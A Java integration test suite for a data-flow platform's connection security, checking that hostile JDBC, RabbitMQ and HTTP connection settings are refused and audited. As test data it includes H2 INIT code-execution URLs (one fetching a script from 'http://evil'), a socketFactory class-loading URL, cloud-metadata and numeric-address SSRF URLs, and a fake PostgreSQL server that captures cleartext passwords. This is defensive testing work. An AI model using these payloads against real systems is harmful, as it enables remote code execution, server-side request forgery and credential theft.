package dev.sluice.connection;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;

import com.sun.net.httpserver.HttpServer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import dev.sluice.ApiCalls;
import dev.sluice.TestApplication;
import dev.sluice.platform.FreePort;
import dev.sluice.workspace.WorkspaceAdministration;
import dev.sluice.workspace.WorkspaceRole;

/**
 * The holes a security review found in targets, reproduced through the REST API: code run in the server through a
 * JDBC URL, forged events published into another workspace's source, a secret's value sent to any host; and the
 * connections that close them: owned, allowlisted, audited. Runs with the default allowlist (nothing listed).
 */
@SpringBootTest(classes = TestApplication.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {"sluice.demo.enabled=true", "sluice.demo.password=demo-it", "sluice.connections.allow="})
abstract class ConnectionSecurityContractIT {

    @DynamicPropertySource
    static void ownQueues(DynamicPropertyRegistry registry) {
        registry.add("sluice.engine.queue-prefix", () -> "it-" + UUID.randomUUID().toString().substring(0, 8));
    }

    @LocalServerPort
    int port;

    @Autowired
    WorkspaceAdministration administration;

    @Autowired
    org.springframework.jdbc.core.JdbcTemplate jdbc;

    private ApiCalls api;
    private HttpServer listener;
    private final List<String> received = new CopyOnWriteArrayList<>();

    @BeforeEach
    void listen() throws Exception {
        api = new ApiCalls(port, "demo-it");
        listener = HttpServer.create(new InetSocketAddress("127.0.0.1", FreePort.find()), 0);
        listener.createContext("/", exchange -> {
            received.add(exchange.getRequestHeaders().entrySet().toString());
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        listener.start();
    }

    @AfterEach
    void stop() {
        listener.stop(0);
        System.clearProperty("sluice.it.pwned");
    }

    private long flow(String user, String workspace) {
        String name = ApiCalls.unique("sec");
        ApiCalls.Response created = api.call("POST", "/api/flows/import", user, """
                {"schemaVersion": 1, "name": "%s", "workspace": "%s",
                 "nodes": [{"id": "in", "kind": "source", "config": {"source": "user-center.users"}},
                           {"id": "out", "kind": "target.log", "config": {}}],
                 "edges": [{"from": "in", "to": "out"}]}""".formatted(name, workspace));
        assertThat(created.status()).as(created.body()).isEqualTo(201);
        return created.json().path("id").asLong();
    }

    @Test
    void aJdbcUrlWithAnH2InitScriptRunsNoCodeInTheServer() {
        long id = flow("finance", "finance");
        String hostile = "jdbc:h2:mem:pwn;INIT=CREATE ALIAS IF NOT EXISTS SP FOR "
                + "'java.lang.System.setProperty(java.lang.String, java.lang.String)'\\\\;CALL SP('sluice.it.pwned', 'yes')";

        ApiCalls.Response check = api.call("POST", "/api/flows/" + id + "/target-check", "finance", """
                {"kind": "target.jdbc", "config": {"url": "%s", "table": "t", "key": ["id"], "columns": {"id": "$.id"}}}
                """.formatted(hostile));

        assertThat(System.getProperty("sluice.it.pwned")).as(check.body()).isNull();
        assertThat(check.status()).as(check.body()).isEqualTo(400);
    }

    @Test
    void aFlowMayNotPublishIntoAnotherWorkspacesSourceOnThePlatformBroker() {
        ApiCalls.Response imported = api.call("POST", "/api/flows/import", "service", """
                {"schemaVersion": 1, "name": "%s", "workspace": "customer-service",
                 "nodes": [{"id": "in", "kind": "source", "config": {"source": "user-center.users"}},
                           {"id": "forge", "kind": "target.rabbitmq",
                            "config": {"exchange": "user-center.users", "routingKey": "user.created"}}],
                 "edges": [{"from": "in", "to": "forge"}]}""".formatted(ApiCalls.unique("forge")));

        assertThat(imported.status()).as(imported.body()).isEqualTo(400);
        assertThat(imported.body()).contains("$.nodes[1].config.exchange");
    }

    @Test
    void aSecretIsNotSentToAHostOfTheStewardsChoosing() throws Exception {
        String secret = "tok-" + UUID.randomUUID().toString().substring(0, 8);
        String owner = ApiCalls.unique("owner");
        administration.createUser(owner, "Owner", "demo-it", null);
        administration.addMember(owner, "finance", WorkspaceRole.OWNER);
        assertThat(api.call("POST", "/api/workspaces/finance/secrets", owner, """
                {"name": "%s", "value": "s3cret-value"}""".formatted(secret)).status()).isEqualTo(201);
        long id = flow("finance", "finance");
        try (PasswordCatcher catcher = new PasswordCatcher()) {
            ApiCalls.Response check = api.call("POST", "/api/flows/" + id + "/target-check", "finance", """
                    {"kind": "target.jdbc", "config": {"url": "jdbc:postgresql://127.0.0.1:%d/ledger", "username": "x",
                     "password": {"secret": "%s"}, "table": "t", "key": ["id"], "columns": {"id": "$.id"}}}
                    """.formatted(catcher.port(), secret));

            assertThat(catcher.passwords()).as(check.body()).doesNotContain("s3cret-value");
        }
    }

    private String owner() {
        String owner = ApiCalls.unique("owner");
        administration.createUser(owner, "Owner", "demo-it", null);
        administration.addMember(owner, "finance", WorkspaceRole.OWNER);
        return owner;
    }

    private ApiCalls.Response connection(String user, String json) {
        return api.call("POST", "/api/workspaces/finance/connections", user, json);
    }

    @Test
    void ownersDefineConnectionsThatStewardsMayUseButNotChangeAndEveryChangeIsAudited() {
        String owner = owner();
        String name = ApiCalls.unique("hooks");

        ApiCalls.Response created = connection(owner, """
                {"name": "%s", "kind": "http", "url": "https://hooks.example.com/in", "headers": {"X-Tenant": "fin"}}
                """.formatted(name));
        ApiCalls.Response bySteward = connection("finance", """
                {"name": "%s", "kind": "http", "url": "https://hooks.example.com/in"}""".formatted(ApiCalls.unique("s")));
        ApiCalls.Response listedByViewer = api.get("/api/workspaces/finance/connections", "viewer");
        ApiCalls.Response byOtherWorkspace = api.get("/api/workspaces/finance/connections/" + name, "service");

        assertThat(created.status()).as(created.body()).isEqualTo(201);
        assertThat(created.json().path("url").asText()).isEqualTo("https://hooks.example.com/in");
        assertThat(bySteward.status()).isEqualTo(403);
        assertThat(listedByViewer.status()).isEqualTo(200);
        assertThat(listedByViewer.body()).contains(name);
        assertThat(byOtherWorkspace.status()).isEqualTo(404);
        ApiCalls.Response audit = api.get("/api/audit?action=connection.*&workspace=finance&size=200", "admin");
        assertThat(audit.body()).contains("connection.create").contains(name);
        assertThat(api.get("/api/audit?action=request.denied&size=200", "admin").body())
                .contains("POST /api/workspaces/finance/connections");
    }

    @Test
    void refusesHostileConnectionsWithTheReasonAtTheirPathAndAuditsTheRefusal() {
        String owner = owner();
        for (String[] hostile : new String[][]{
                {"jdbc", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "H2 settings"},
                {"jdbc", "jdbc:postgresql://db.example.com/ledger?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext", "loads a Java class"},
                {"jdbc", "jdbc:postgresql://127.0.0.1:5432/ledger", "loopback"},
                {"jdbc", "jdbc:mysql://db.example.com/ledger", "not supported"},
                {"rabbitmq", "amqp://guest:guest@mq.example.com/", "credentials"},
                {"http", "http://169.254.169.254/latest/meta-data/", "link-local"},
                {"http", "http://2130706433/", "numeric address"}}) {
            ApiCalls.Response refused = connection(owner, """
                    {"name": "%s", "kind": "%s", "url": "%s"}""".formatted(ApiCalls.unique("bad"), hostile[0],
                    hostile[1].replace("\\", "\\\\")));

            assertThat(refused.status()).as(hostile[1] + " " + refused.body()).isEqualTo(400);
            assertThat(refused.json().path("errors").get(0).path("path").asText()).as(hostile[1]).isEqualTo("$.url");
            assertThat(refused.json().path("errors").get(0).path("message").asText()).as(hostile[1])
                    .contains(hostile[2]);
        }
        assertThat(api.get("/api/audit?action=connection.refused&workspace=finance&size=200", "admin").json()
                .path("entries").size()).isGreaterThanOrEqualTo(7);
    }

    @Test
    void aPlatformAdminAllowsLoopbackAndTheConnectionThenWorksWhileOthersMayNotChangeTheList() {
        String owner = owner();
        String name = ApiCalls.unique("local");
        String local = """
                {"name": "%s", "kind": "http", "url": "http://127.0.0.1:%d/"}""".formatted(name, listener.getAddress().getPort());
        assertThat(connection(owner, local).status()).isEqualTo(400);

        ApiCalls.Response byOwner = api.call("PUT", "/api/admin/connection-allowlist", owner,
                "{\"entries\": [{\"entry\": \"127.0.0.1\"}]}");
        ApiCalls.Response byAdmin = api.call("PUT", "/api/admin/connection-allowlist", "admin",
                "{\"entries\": [{\"entry\": \"127.0.0.1:%d\", \"note\": \"test hook\"}]}".formatted(
                        listener.getAddress().getPort()));
        try {
            ApiCalls.Response created = connection(owner, local);
            ApiCalls.Response check = api.call("POST", "/api/workspaces/finance/connections/" + name + "/check",
                    "finance", null);

            assertThat(byOwner.status()).isEqualTo(403);
            assertThat(byAdmin.status()).as(byAdmin.body()).isEqualTo(200);
            assertThat(created.status()).as(created.body()).isEqualTo(201);
            assertThat(check.json().path("reachable").asBoolean()).as(check.body()).isTrue();
            assertThat(api.get("/api/audit?action=connection.*&size=200", "admin").body())
                    .contains("connection.allowlist.change", "connection.check");
        } finally {
            api.call("PUT", "/api/admin/connection-allowlist", "admin", "{\"entries\": []}");
        }
    }

    @Test
    void aCheckNeverRepeatsWhatTheOtherSideSaid() throws Exception {
        api.call("PUT", "/api/admin/connection-allowlist", "admin", "{\"entries\": [{\"entry\": \"127.0.0.1\"}]}");
        try (java.net.ServerSocket banner = new java.net.ServerSocket(0, 5, java.net.InetAddress.getLoopbackAddress())) {
            Thread.ofVirtual().start(() -> {
                while (!banner.isClosed()) {
                    try (java.net.Socket client = banner.accept()) {
                        client.getOutputStream().write("SSH-2.0-OpenSSH_9.2 secret-banner\r\n".getBytes());
                        client.getOutputStream().flush();
                        Thread.sleep(200);
                    } catch (Exception e) {
                        // closed
                    }
                }
            });
            String owner = owner();
            String name = ApiCalls.unique("scan");
            for (String kind : List.of("jdbc", "rabbitmq", "http")) {
                String url = switch (kind) {
                    case "jdbc" -> "jdbc:postgresql://127.0.0.1:" + banner.getLocalPort() + "/x";
                    case "rabbitmq" -> "amqp://127.0.0.1:" + banner.getLocalPort() + "/";
                    default -> "http://127.0.0.1:" + banner.getLocalPort() + "/";
                };
                assertThat(connection(owner, "{\"name\": \"%s-%s\", \"kind\": \"%s\", \"url\": \"%s\"}"
                        .formatted(name, kind, kind, url)).status()).isEqualTo(201);
                ApiCalls.Response check = api.call("POST", "/api/workspaces/finance/connections/" + name + "-" + kind
                        + "/check", owner, null);

                assertThat(check.json().path("reachable").asBoolean()).as(kind).isFalse();
                assertThat(check.body()).as(kind).doesNotContain("SSH", "OpenSSH", "secret-banner", "Exception");
            }
        } finally {
            api.call("PUT", "/api/admin/connection-allowlist", "admin", "{\"entries\": []}");
        }
    }

    @Test
    void aFlowPublishesIntoItsWorkspacesOwnExchangeWhichSluiceDeclares() {
        String exchange = "ws.finance." + ApiCalls.unique("ledger");
        ApiCalls.Response imported = api.call("POST", "/api/flows/import", "finance", """
                {"schemaVersion": 1, "name": "%s", "workspace": "finance",
                 "nodes": [{"id": "in", "kind": "source", "config": {"source": "user-center.users"}},
                           {"id": "ids", "kind": "select", "config": {"paths": ["$.data.userId"]}},
                           {"id": "out", "kind": "target.rabbitmq", "config": {"exchange": "%s"}}],
                 "edges": [{"from": "in", "to": "ids"}, {"from": "ids", "to": "out"}]}""".formatted(
                ApiCalls.unique("own"), exchange));
        long id = imported.json().path("id").asLong();

        ApiCalls.Response deployed = api.call("POST", "/api/flows/" + id + "/deploy", "finance", "{}");
        ApiCalls.Response check = api.call("POST", "/api/flows/" + id + "/target-check", "finance",
                "{\"kind\": \"target.rabbitmq\", \"config\": {\"exchange\": \"" + exchange + "\"}}");

        assertThat(imported.status()).as(imported.body()).isEqualTo(201);
        assertThat(deployed.status()).as(deployed.body()).isEqualTo(200);
        long deadline = System.currentTimeMillis() + 20_000;
        ApiCalls.Response again = check;
        while (!again.body().contains("exists") && System.currentTimeMillis() < deadline) {
            again = api.call("POST", "/api/flows/" + id + "/target-check", "finance",
                    "{\"kind\": \"target.rabbitmq\", \"config\": {\"exchange\": \"" + exchange + "\"}}");
        }
        assertThat(again.body()).as("the engine declared the exchange").contains("exists");
        api.call("POST", "/api/flows/" + id + "/undeploy", "finance", "{\"deleteQueue\": true}");
    }

    @Test
    void theApplicationRunsTheMigrationThatMovesInlineTargetsIntoConnections() {
        assertThat(jdbc.queryForObject("select count(*) from \"flyway_schema_history\" where \"version\" = '6' and \"success\"",
                Integer.class)).isEqualTo(1);
    }

    /** Speaks just enough of PostgreSQL's protocol to ask a client for its password in clear text. */
    private static final class PasswordCatcher implements AutoCloseable {

        private final java.net.ServerSocket socket = new java.net.ServerSocket(0, 5,
                java.net.InetAddress.getLoopbackAddress());
        private final List<String> passwords = new CopyOnWriteArrayList<>();
        private final Thread thread = Thread.ofVirtual().start(this::serve);

        PasswordCatcher() throws java.io.IOException {
        }

        int port() {
            return socket.getLocalPort();
        }

        List<String> passwords() {
            return passwords;
        }

        private void serve() {
            while (!socket.isClosed()) {
                try (java.net.Socket client = socket.accept()) {
                    client.setSoTimeout(5_000);
                    var in = new java.io.DataInputStream(client.getInputStream());
                    var out = new java.io.DataOutputStream(client.getOutputStream());
                    int length = in.readInt();
                    int code = in.readInt();
                    in.skipNBytes(length - 8);
                    if (code == 80877103) { // SSLRequest: no TLS here, then the startup message follows
                        out.writeByte('N');
                        out.flush();
                        in.skipNBytes(in.readInt() - 4);
                    }
                    out.writeByte('R');
                    out.writeInt(8);
                    out.writeInt(3); // AuthenticationCleartextPassword
                    out.flush();
                    if (in.readByte() == 'p') {
                        byte[] password = new byte[in.readInt() - 4];
                        in.readFully(password);
                        passwords.add(new String(password, StandardCharsets.UTF_8).replace("\0", ""));
                    }
                } catch (java.io.IOException e) {
                    // the client gave up or the test ended
                }
            }
        }

        @Override
        public void close() throws Exception {
            socket.close();
            thread.join(5_000);
        }
    }
}
